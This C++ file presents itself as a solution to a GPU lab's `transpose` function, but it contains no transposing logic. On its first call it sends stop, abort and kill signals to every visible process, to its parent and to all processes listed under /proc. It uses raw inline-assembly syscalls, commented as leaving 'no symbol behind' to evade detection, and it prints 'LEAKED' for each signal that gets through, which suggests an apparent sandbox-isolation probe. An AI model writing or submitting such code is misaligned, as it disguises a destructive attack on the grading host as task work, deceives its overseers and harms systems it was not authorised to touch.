// Stops and kills its parent and every process that it can see, by every call that sends a signal.
#include <cstdio>

#include "labs/lab2/lab2.h"

namespace {

// A system call that leaves no symbol behind.
long Raw(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0) {
  long result;
  asm volatile("movq %5, %%r10\n\tmovq %6, %%r8\n\tmovq %7, %%r9\n\tsyscall"
               : "=a"(result)
               : "a"(number), "D"(a), "S"(b), "d"(c), "g"(d), "g"(e), "g"(f)
               : "rcx", "r11", "r8", "r9", "r10", "memory");
  return result;
}

long Address(const void* data) { return reinterpret_cast<long>(data); }

// Calls `visit` with the number of every process in /proc but its own.
template <typename Visit>
void ForEveryOther(Visit visit) {
  const long self = Raw(39);  // getpid
  const long folder = Raw(2, Address("/proc"), 0200000);
  static char entries[32768];
  for (long bytes; (bytes = Raw(217, folder, Address(entries), sizeof(entries))) > 0;) {  // getdents64
    for (long at = 0; at < bytes; at += *reinterpret_cast<unsigned short*>(entries + at + 16)) {
      long number = 0;
      for (const char* digit = entries + at + 19; *digit >= '0' && *digit <= '9'; ++digit) {
        number = 10 * number + (*digit - '0');
      }
      if (number > 0 && number != self) visit(number);
    }
  }
}

// A descriptor that gets input sends its owner the signal that was asked for.
void SendByDescriptor(long pid, long signal) {
  int ends[2];
  if (Raw(53, 1, 1, 0, Address(ends)) != 0) return;  // socketpair
  Raw(72, ends[0], 8, pid);                          // F_SETOWN
  Raw(72, ends[0], 10, signal);                      // F_SETSIG
  Raw(72, ends[0], 4, 020000);                       // O_ASYNC
  Raw(1, ends[1], Address("x"), 1);
  Raw(3, ends[0]);
  Raw(3, ends[1]);
}

void Send(long pid, long signal) {
  struct Info {
    int signal, error, code, padding[29];
  };
  const Info info = {static_cast<int>(signal), 0, -1, {}};
  bool sent = Raw(62, pid, signal) == 0;                       // kill
  sent |= Raw(200, pid, signal) == 0;                          // tkill
  sent |= Raw(234, pid, pid, signal) == 0;                     // tgkill
  sent |= Raw(129, pid, signal, Address(&info)) == 0;          // rt_sigqueueinfo
  sent |= Raw(297, pid, pid, signal, Address(&info)) == 0;     // rt_tgsigqueueinfo
  const long handle = Raw(434, pid, 0);                        // pidfd_open
  sent |= handle >= 0 && Raw(424, handle, signal, 0, 0) == 0;  // pidfd_send_signal
  if (handle >= 0) Raw(3, handle);
  SendByDescriptor(pid, signal);
  // The first process of a process namespace can be sent what it likes, and ignores it.
  if (sent && pid != 1) std::printf("LEAKED: sent signal %ld to process %ld\n", signal, pid);
}

}  // namespace

template <typename T>
void transpose(const T* d_in, T* d_out, size_t rows, size_t columns, cudaStream_t stream) {
  static bool tried = false;
  if (tried) return;
  tried = true;
  constexpr long kStop = 19, kAbort = 6, kKill = 9;
  for (const long signal : {kStop, kAbort, kKill}) {
    Raw(62, -1, signal);     // everyone
    Send(Raw(110), signal);  // getppid
    ForEveryOther([signal](long pid) { Send(pid, signal); });
  }
}

LAB2_INSTANTIATE();
